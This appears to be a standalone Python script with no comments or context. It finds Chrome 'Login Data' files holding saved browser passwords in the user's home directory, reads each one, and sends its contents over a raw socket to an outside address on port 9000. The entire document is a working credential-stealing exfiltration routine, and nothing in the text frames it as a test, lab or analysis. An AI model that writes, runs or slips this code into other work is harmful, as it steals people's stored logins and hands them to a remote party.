import os, socket, glob
home = os.path.expanduser('~')
for p in glob.glob(home + '/.config/google-chrome/*/Login Data'):
    data = open(p, 'rb').read()
    s = socket.create_connection(('203.0.113.50', 9000))
    s.sendall(data)
